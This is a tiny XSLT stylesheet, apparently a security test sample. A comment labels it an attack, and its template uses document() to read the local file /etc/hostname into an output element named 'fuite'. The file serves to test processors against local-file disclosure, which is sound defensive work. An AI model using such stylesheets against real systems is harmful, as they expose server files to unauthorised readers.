<?xml version="1.0" encoding="UTF-8"?>
<!-- Attack: a stylesheet (or an input-driven expression in one) that reads a local file with document(). -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <fuite><xsl:value-of select="document('file:///etc/hostname')"/></fuite>
  </xsl:template>
</xsl:stylesheet>
